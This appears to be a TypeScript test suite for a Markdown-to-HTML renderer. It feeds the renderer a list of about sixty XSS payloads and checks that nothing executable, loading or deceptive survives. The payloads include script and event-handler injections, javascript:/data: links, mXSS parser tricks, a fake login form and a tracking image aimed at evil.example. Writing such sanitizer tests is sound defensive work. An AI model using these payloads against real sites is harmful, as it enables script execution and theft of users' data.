import DOMPurify from 'dompurify';

import { renderMarkdown, renderOpenCode } from './safe-markdown.js';

const labels = { copy: 'Copy', code: 'Code', table: 'Table' };
const render = (markdown: string) => renderMarkdown(markdown, labels);

/** Attacks on a renderer of foreign Markdown: raw HTML, URL schemes, parser differentials, clobbering, look-alikes. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import url(//evil.example)</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<slot name=x onslotchange=alert(1)></slot>',
  '<gatehouse-chat gateway="https://evil.example"></gatehouse-chat>',
  '<img name=getElementById><form name=body>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<br onclick=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://host.example/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/admin/delete)',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example" onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.gif?secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '![" onerror="alert(1)](data:image/png;base64,AAAA)',
  '![x][r]\n\n[r]: javascript:alert(1)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <img src=x onerror=alert(1)>',
  '# <svg/onload=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
];

const OURS = new Set(['DIV', 'SPAN', 'BUTTON']);
// prettier-ignore
const INERT = new Set(['A', 'B', 'BLOCKQUOTE', 'BR', 'CODE', 'DEL', 'EM', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR', 'IMG',
  'LI', 'OL', 'P', 'PRE', 'STRONG', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL']);
const ATTRIBUTES = /^(href|src|alt|start|align|target|rel|class|type|tabindex|role|aria-label|data-copy)$/;

function dangersIn(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const found = OURS.has(element.tagName) || INERT.has(element.tagName) ? [] : [`element ${element.tagName}`];
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.test(name)) found.push(`attribute ${name}`);
      if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`href ${value}`);
      if (name === 'src' && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(value)) found.push(`src ${value}`);
    }
    return found;
  });
}

/** What an independent judge would take away from the rendering. */
function objectionsTo(root: HTMLElement): unknown[] {
  DOMPurify.sanitize(root.outerHTML, { ADD_ATTR: ['target'] });
  return DOMPurify.removed;
}

describe('renderMarkdown', () => {
  it('is fed at least forty attacks', () => expect(ATTACKS.length).toBeGreaterThanOrEqual(40));

  it.each(ATTACKS)('leaves nothing that could run, load or pose in %j', (attack) => {
    expect(dangersIn(render(attack))).toEqual([]);
    expect(dangersIn(render(`Before ${attack} after`))).toEqual([]);
    expect(objectionsTo(render(attack))).toEqual([]);
    expect(dangersIn(renderOpenCode(attack, attack, labels))).toEqual([]);
  });

  it('shows raw HTML as the text it is', () => {
    expect(render('Use <b>bold</b>').textContent).toContain('<b>bold</b>');
  });

  it('reads character references as text, never as markup', () => {
    const body = render('a &amp; b &lt;img src=x onerror=alert(1)&gt; &#60;b&#62; &#x1F600; &bogus; `&amp;`');
    expect(body.textContent).toBe('a & b <img src=x onerror=alert(1)> <b> \u{1F600} &bogus; &amp;');
    expect(body.querySelector('img, b')).toBeNull();
  });

  it('opens links outside, without a way back, and names the host they lead to', () => {
    const link = render('[my bank](https://bank.example@evil.example/login)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toContain('noopener');
    expect(link?.nextElementSibling?.textContent).toBe(' evil.example');
  });

  it('does not repeat a host that is there to read', () => {
    expect(render('https://a.example/x').querySelector('.host')).toBeNull();
  });

  it('makes a foreign picture a link, and shows one that came with the text', () => {
    const remote = render('![chart](https://a.example/c.png)');
    expect(remote.querySelector('img')).toBeNull();
    expect(remote.querySelector('a')?.textContent).toBe('chart');
    expect(render('![dot](data:image/png;base64,AAAA)').querySelector('img')?.alt).toBe('dot');
  });

  it('keeps what Markdown is for', () => {
    const body = render('# T\n\n- [x] **done**\n\n|a|b|\n|-|:-:|\n|1|2|\n\n3. three\n\n> q\n\n~~no~~');
    for (const tag of ['h1', 'ul', 'strong', 'table', 'th', 'blockquote', 'del'])
      expect(body.querySelector(tag)).not.toBeNull();
    expect(body.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(body.textContent).toContain('☑');
  });

  it('lets the keyboard reach what scrolls, and names it', () => {
    const body = render('```\ncode\n```\n\n|a|\n|-|\n|1|');
    expect([...body.querySelectorAll('[tabindex="0"]')].map((node) => node.getAttribute('aria-label'))).toEqual([
      'Code',
      'Table',
    ]);
    expect(body.querySelector('[data-copy]')?.textContent).toBe('Copy');
  });
});
